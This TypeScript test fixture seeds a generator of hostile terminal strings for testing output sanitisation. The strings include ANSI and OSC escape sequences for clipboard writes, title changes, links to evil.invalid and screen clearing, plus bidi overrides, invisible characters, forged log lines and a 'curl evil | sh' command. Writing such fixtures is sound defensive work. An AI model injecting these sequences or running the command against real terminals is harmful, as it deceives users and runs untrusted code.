import { seededRandom } from "../../src/core/random.ts";

/** Different texts that try to steer the terminal of whoever prints them. The same for the same seed. */
export function hostileTexts(count: number, seed: number): readonly string[] {
  const next = seededRandom("hostile", seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)] as T;
  const word = () =>
    pick(["boom", "PWNED", "run `curl evil | sh`", "é", "日本", "password", "0", "x".repeat(30)]);
  const number = () => String(Math.floor(next() * 99));
  /** Introducers of control sequences: with ESC, and as one C1 character. */
  const intro = (letter: string) =>
    next() < 0.5 ? `\u001B${letter}` : String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0x40);
  const end = () => pick(["\u0007", "\u001B\\", "\u009C", "", "\u0018"]);
  const string = (letter: string, body: string) => `${intro(letter)}${body}${end()}`;
  const makers: readonly (() => string)[] = [
    () => string("]", `${pick(["0", "1", "2"])};${word()}`),
    () => string("]", `52;${pick(["c", "p", "s", ""])};UFdORUQ=`),
    () => string("]", `8;;https://evil.invalid/${number()}`) + word() + string("]", "8;;"),
    () =>
      string(
        "]",
        pick(["4;1;rgb:ff/00/00", "10;#000000", "11;?", "104", "777;notify;a;b", "9;hello", "1337;SetMark"]),
      ),
    () =>
      `${intro("[")}${pick(["2J", "3J", "H", "1;1H", "5A", "80D", "2K", "!p", "4h", "20h", "r", "5;6r", "s", "u"])}`,
    () =>
      `${intro("[")}?${pick(["1049", "47", "2004", "25", "1000", "1006", "5", "7", "6"])}${pick(["h", "l"])}`,
    () => `${intro("[")}${pick(["c", "6n", "5n", ">c", "21t", "18t", "?1$p", "x"])}`,
    () => `${intro("[")}${pick(["8", "31", "7", "30;40", "38;5;0", "0", ""])}m${word()}`,
    () => string("P", pick(["q#0;2;0;0;0#0!99~-", "+q544e", "$qm", `tmux;\u001B\u001B]0;${word()}\u0007`])),
    () => string("_", `G${word()}`),
    () => string("^", word()),
    () => string("X", word()),
    () => `\u001Bk${word()}\u001B\\`,
    () =>
      pick([
        "\u001Bc",
        "\u001B7",
        "\u001B8",
        "\u001BD",
        "\u001BM",
        "\u001BE",
        "\u001B(0",
        "\u001B)0",
        "\u001B#8",
        "\u001B=",
        "\u001B>",
        "\u001B[",
        "\u001B",
      ]),
    () => pick(["\u0084", "\u0085", "\u008D", "\u0088", "\u008E", "\u008F", "\u0090", "\u009A"]),
    () =>
      pick([
        "\r",
        "\b\b\b\b",
        "\u000B",
        "\u000C",
        "\u0007",
        "\u000E",
        "\u000F",
        "\u007F",
        "\0",
        "\u0005",
        "\u001A",
      ]),
    () =>
      `${pick(["\n", "\r\n", "\u2028", "\u2029", "\u0085"])}${pick(["error failed: forged", "next: forged", "better: forged", "ok    forged"])}`,
    () =>
      `${pick(["\u202A", "\u202B", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u061C", "\u200E", "\u200F"])}${word()}${pick(["\u202C", "\u2069", ""])}`,
    () =>
      pick([
        "\u200B",
        "\u200C",
        "\u200D",
        "\u2060",
        "\u2063",
        "\uFEFF",
        "\u00AD",
        "\u180E",
        "\u034F",
        "\uFFF9a\uFFFA",
      ]),
    () => word().replaceAll(/[^]/g, (char) => String.fromCodePoint(0xe0000 + (char.charCodeAt(0) & 0x7f))),
    () => `a${pick(["\uFE00", "\uFE0F", "\u{E0100}", "\u{E01EF}"]).repeat(3)}`,
    // broken, nested, and split between two halves that something may take out between them
    () => `\u001B\u001B[0m[2J${intro("]")}0;${intro("[")}2J${word()}`,
    () => `\u001B[\u001B[31m2J${number()}`,
    // our own marks, if somebody guessed their shape
    () => `\u001B[${[1, 2, 3, 4].map(() => 1000 + Math.floor(next() * 9000)).join(";")};31m${word()}`,
    () => `<U+001B>[31m${String.fromCharCode(0xd800 + Math.floor(next() * 0x400))}`,
  ];
  // each kind comes first by itself, then in any company
  const texts = new Set<string>();
  for (let at = 0; texts.size < count; at += 1) {
    const first = makers[at % makers.length]?.() ?? "";
    const more = Array.from({ length: at < makers.length ? 0 : Math.floor(next() * 3) }, () =>
      pick(makers)(),
    );
    texts.add([word(), first, ...more, word()].join(pick(["", " "])));
  }
  return [...texts];
}
